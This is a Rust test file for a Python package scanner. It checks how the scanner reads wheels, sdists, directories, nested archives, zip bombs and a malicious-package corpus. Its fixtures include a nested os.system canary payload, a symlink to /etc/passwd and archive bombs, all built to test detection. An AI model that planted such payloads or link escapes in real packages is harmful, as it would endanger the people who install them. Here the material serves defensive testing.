    for name in ["a.TGZ", "a.tar.bz2", "a.tar.xz", "a.tar", "a.zip", "a.whl", "a.Egg"] {
        assert!(is_package_file(std::path::Path::new(name)), "{name}");
    }
    assert!(!is_package_file(std::path::Path::new("a.py")));
    assert!(matches!(read_path(&dir.path().join("missing.whl"), &Limits::default()), Err(ArtifactError::Io { .. })));
}

/// A large file is hashed on a thread of its own while its members are read; the
/// result is the same as reading it from memory.
#[test]
fn a_large_file_read_from_disk_has_the_same_hash_and_members() {
    let dir = tempfile::tempdir().expect("tmp");
    let path = dir.path().join("big-1.0-py3-none-any.whl");
    let stored = zip::write::SimpleFileOptions::default().compression_method(zip::CompressionMethod::Stored);
    let mut w = zip::ZipWriter::new(Cursor::new(Vec::new()));
    for i in 0..300 {
        w.start_file(format!("big/m{i}.py"), stored).expect("start");
        w.write_all(format!("X{i} = {i}\n").as_bytes()).expect("write");
    }
    w.start_file("big/weights.bin", stored).expect("start");
    w.write_all(&noise(9, 9 << 20)).expect("write");
    let bytes = w.finish().expect("zip").into_inner();
    std::fs::write(&path, &bytes).expect("write");
    let from_file = read_path(&path, &Limits::default()).expect("reads");
    let from_bytes = read("big-1.0-py3-none-any.whl", &bytes).expect("reads");
    assert_eq!(from_file.sha256.as_deref(), Some(reader::hex(&<sha2::Sha256 as sha2::Digest>::digest(&bytes)).as_str()));
    assert_eq!(from_file.sha256, from_bytes.sha256);
    let texts = |a: &Artifact| a.members.iter().map(|m| (m.path.clone(), m.size, m.text().map(|t| t.into_owned()))).collect::<Vec<_>>();
    assert_eq!(texts(&from_file), texts(&from_bytes));
    assert_eq!(from_file.members.len(), 301);
}

#[test]
fn directory_walk_skips_caches_and_reports_links() {
    let dir = tempfile::tempdir().expect("tmp");
    let root = dir.path().join("proj");
    std::fs::create_dir_all(root.join("pkg")).expect("mkdir");
    std::fs::create_dir_all(root.join(".git")).expect("mkdir");
    std::fs::create_dir_all(root.join("pkg/__pycache__")).expect("mkdir");
    std::fs::write(root.join("setup.py"), "setup()\n").expect("w");
    std::fs::write(root.join("pkg/__init__.py"), "x = 1\n").expect("w");
    std::fs::write(root.join(".git/config"), "[core]\n").expect("w");
    std::fs::write(root.join("pkg/__pycache__/x.pyc"), [0u8; 16]).expect("w");
    #[cfg(unix)]
    {
        std::os::unix::fs::symlink("/etc/passwd", root.join("pkg/passwd")).expect("symlink");
        let _sock = std::os::unix::net::UnixListener::bind(root.join("sock")).expect("socket");
    }
    let a = read_path(&root, &Limits::default()).expect("reads");
    assert_eq!(a.kind, ArtifactKind::Directory);
    assert_eq!(a.container, Container::Directory);
    assert_eq!(a.sha256, None);
    let paths: Vec<&str> = a.members.iter().map(|m| m.path.as_str()).collect();
    assert_eq!(paths, ["setup.py", "pkg/__init__.py"]);
    #[cfg(unix)]
    assert_eq!(alerts(&a), [AlertId::ArchiveSpecialFile, AlertId::ArchiveLinkEscape]);
}

// ───────────── the malware corpus (bytes only) ─────────────

#[test]
fn malicious_corpus_reads_without_panics() {
    let root = std::env::var_os("SAFE_PIP_CORPUS")
        .map(std::path::PathBuf::from)
        .unwrap_or_else(|| std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("../shared/corpus/malicious"));
    if !root.is_dir() {
        eprintln!("note: corpus not found at {}; skipping", root.display());
        return;
    }
    let mut files = Vec::new();
    let mut stack = vec![root];
    while let Some(dir) = stack.pop() {
        for entry in std::fs::read_dir(&dir).expect("list").flatten() {
            let p = entry.path();
            if p.is_dir() {
                stack.push(p);
            } else if !p.extension().is_some_and(|e| e == "tsv" || e == "md")
                && !p.file_name().is_some_and(|n| n.to_string_lossy().starts_with('.'))
            {
                files.push(p);
            }
        }
    }
    let mut errors = Vec::new();
    let mut seen: std::collections::BTreeMap<&str, usize> = std::collections::BTreeMap::new();
    let mut wheels = 0;
    for f in &files {
        match read_path(f, &Limits::default()) {
            Ok(a) => {
                wheels += usize::from(a.kind == ArtifactKind::Wheel);
                for finding in &a.findings {
                    *seen.entry(finding.alert.id()).or_default() += 1;
                }
            }
            Err(e) => errors.push(format!("{}: {e}", f.display())),
        }
    }
    eprintln!("corpus: {} files, {} errors, {wheels} wheels, findings {seen:?}", files.len(), errors.len());
    for e in &errors {
        eprintln!("  {e}");
    }
    assert!(errors.len() * 100 <= files.len(), "too many unreadable: {errors:?}");
}

// ───────────── nested archives ─────────────

#[test]
fn a_zip_inside_a_zip_inside_the_package_is_read() {
    let inner = zip_of(&[("payload/__init__.py", b"import os\nos.system('touch /tmp/canary')\n")]);
    let middle = zip_of(&[("vendor/inner.zip", &inner), ("vendor/readme.txt", b"hello")]);
    let bytes = gz(&tar_of(&[
        Entry::File("demo-1.0/setup.py", b"from setuptools import setup\nsetup(name='demo')\n"),
        Entry::File("demo-1.0/demo/bundle.whl", &middle),
    ]));
    let a = read("demo-1.0.tar.gz", &bytes).expect("reads");
    let paths: Vec<&str> = a.members.iter().map(|m| m.path.as_str()).collect();
    let deep = "demo-1.0/demo/bundle.whl!/vendor/inner.zip!/payload/__init__.py";
    assert!(paths.contains(&deep), "{paths:?}");
    assert!(a.member(deep).and_then(|m| m.text()).is_some_and(|t| t.contains("os.system")), "nested code is kept for analysis");
    assert!(a.member("demo-1.0/demo/bundle.whl").is_some_and(|m| m.data.is_none()), "the archive's own bytes are not kept");
    assert!(a.findings.is_empty(), "{:?}", a.findings);
}

#[test]
fn nested_archives_count_against_the_package_limits() {
    let big = vec![b'a'; 40_000];
    let inner = zip_of(&[("p/a.txt", &big[..]), ("p/b.txt", &big[..])]);
    let bytes = zip_of(&[("pkg/__init__.py", b"x = 1\n"), ("pkg/data.zip", &inner), ("pkg/after.py", &[b'#'; 20_000])]);
    // the package's own members fit (20 kB); with what the nested archive decompressed
    // before its own allowance ran out (40 kB) they do not
    let limits = Limits { max_total_bytes: 50_000, ..Limits::default() };
    let a = read_bytes("pkg-1.0-py3-none-any.whl", &bytes, &limits).expect("reads");
    assert!(has(&a, AlertId::ArchiveLimitExceeded), "{:?}", a.findings);
    assert!(a.member("pkg/after.py").is_none());
    let limits = Limits { max_members: 4, ..Limits::default() };
    let a = read_bytes("pkg-1.0-py3-none-any.whl", &bytes, &limits).expect("reads");
    assert!(has(&a, AlertId::ArchiveLimitExceeded), "entries inside count too: {:?}", a.findings);
    // and without limits everything is there
    let a = read("pkg-1.0-py3-none-any.whl", &bytes).expect("reads");
    assert!(a.findings.is_empty() && a.member("pkg/data.zip!/p/b.txt").is_some() && a.member("pkg/after.py").is_some());
}

#[test]
fn archives_nested_too_deep_are_not_opened() {
    // a zip in a zip in a zip in a zip in the package: one level past the limit (a zip
    // quine never ends)
    let mut bytes = zip_of(&[("m.py", b"x = 1\n")]);
    for level in (0..nested::MAX_DEPTH).rev() {
        bytes = zip_of(&[(&format!("l{level}.zip"), &bytes)]);
    }
    let a = read("deep-1.0-py3-none-any.whl", &zip_of(&[("pkg/x.zip", &bytes), ("pkg/y.py", b"y = 2\n")])).expect("reads");
    assert!(a.findings.is_empty(), "{:?}", a.findings);
    assert!(a.member("pkg/x.zip!/l0.zip!/l1.zip!/l2.zip").is_some(), "three levels are read");
    assert!(a.members.iter().all(|m| !m.path.ends_with("m.py")), "the fourth is not opened");
    assert!(a.member("pkg/y.py").is_some(), "the package's own reading goes on");
}

#[test]
fn a_bomb_inside_a_nested_archive_ends_that_archive_only() {
    // an unzip library's test fixtures hold bombs: pip never unpacks them, and reading
    // them stops at the ratio limit like any other member
    let bytes = zip_of(&[("demo/__init__.py", b"x = 1\n"), ("demo/fixtures.tar.gz", gzip_bomb()), ("demo/later.py", b"z = 3\n")]);
    let a = read("demo-1.0-py3-none-any.whl", &bytes).expect("reads");
    assert!(!has(&a, AlertId::ArchiveLimitExceeded), "{:?}", a.findings);
    assert!(a.member("demo/later.py").is_some());
    assert!(a.members.iter().all(|m| !m.path.contains("fixtures.tar.gz!/")), "the bomb yields no member");
}

#[test]
fn data_named_like_an_archive_and_damaged_nested_archives_are_data() {
    let mut broken = zip_of(&[("m.py", b"x = 1\n")]);
    let n = broken.len();
    broken.truncate(n - 10);
    let bytes = zip_of(&[
        ("pkg/__init__.py", b"x = 1\n"),
        ("pkg/broken.zip", &broken),
        ("pkg/notzip.zip", &[0u8, 159, 146, 150, 1, 2, 3]),
        ("pkg/table.csv.gz", &gz(b"a,b\n1,2\n")),
        ("pkg/encrypted-fixture.zip", &{
            let mut z = zip_of(&[("secret.txt", b"s")]);
            // flag the entry encrypted (general purpose bit 0) in both headers
            patch(&mut z, b"PK\x03\x04\x14\x00\x00\x00", b"PK\x03\x04\x14\x00\x01\x00");
            z
        }),
    ]);
    let a = read("pkg-1.0-py3-none-any.whl", &bytes).expect("reads");
    assert!(a.findings.is_empty(), "nothing pip never unpacks is held against the package: {:?}", a.findings);
    assert!(a.member("pkg/notzip.zip").is_some_and(|m| m.data.is_none()));
    assert!(a.members.iter().all(|m| !m.path.contains("table.csv.gz!/")));
}

// ───────────── memory in flight (a directory scan's cap) ─────────────

/// What reading `bytes` charged to a lease of its own: (held at the end, most held).
fn charged_by_reading(name: &str, bytes: &[u8]) -> (u64, u64, Artifact) {
    let pool = super::inflight::InFlight::new(u64::MAX);
    let (held, artifact) = {
        let _g = super::inflight::enter(pool.lease());
        let a = read(name, bytes).expect("readable");
        (pool.used(), a)
    };
    (held, pool.peak(), artifact)
}

fn kept(a: &Artifact) -> u64 {
    a.members.iter().map(|m| m.kept_bytes()).sum()
}

#[test]
fn a_file_reserves_the_model_of_its_largest_module() {
    let big = "x = 1\n".repeat(20_000);
    let small = "y = 2\n".repeat(1_000);
    let data = noise(7, 300_000);
    let per_byte = super::inflight::MODEL_BYTES_PER_SOURCE_BYTE;
    // a wheel reserves from its central directory, whatever the order of the members
    let whl = zip_of(&[("pkg/small.py", small.as_bytes()), ("pkg/data.json", &data), ("pkg/big.py", big.as_bytes())]);
    let (held, _, a) = charged_by_reading("pkg-1.0-py3-none-any.whl", &whl);
    assert_eq!(held, kept(&a) + per_byte * big.len() as u64);
    // an sdist reserves as it reads: the rises add up to the largest module's model
    let sdist = gz(&tar_of(&[
        Entry::File("pkg-1.0/pkg/small.py", small.as_bytes()),
        Entry::File("pkg-1.0/pkg/big.py", big.as_bytes()),
        Entry::File("pkg-1.0/pkg/data.json", &data),
    ]));
    let (held, _, a) = charged_by_reading("pkg-1.0.tar.gz", &sdist);
    assert_eq!(held, kept(&a) + per_byte * big.len() as u64);
    // data, however large, reserves nothing beyond its kept bytes
    let (held, _, a) = charged_by_reading("pkg-1.0-py3-none-any.whl", &zip_of(&[("pkg/data.json", &data)]));
    assert_eq!(held, kept(&a));
}

#[test]
fn a_nested_archive_takes_room_while_it_is_read_and_gives_it_back() {
    let inner = gz(&tar_of(&[Entry::File("inner/blob.bin", &noise(3, 400_000))]));
    let sdist = gz(&tar_of(&[
        Entry::File("pkg-1.0/PKG-INFO", b"Metadata-Version: 2.1\nName: pkg\nVersion: 1.0\n"),
        Entry::File("pkg-1.0/vendor/inner.tar.gz", &inner),
    ]));
    let (held, peak, a) = charged_by_reading("pkg-1.0.tar.gz", &sdist);
    assert!(a.members.iter().any(|m| m.path.contains("inner/blob.bin")), "the nested archive was opened");
    assert!(peak >= inner.len() as u64, "room for the nested archive's {} bytes was taken (peak {peak})", inner.len());
    assert_eq!(held, kept(&a), "and given back once it was read");
}
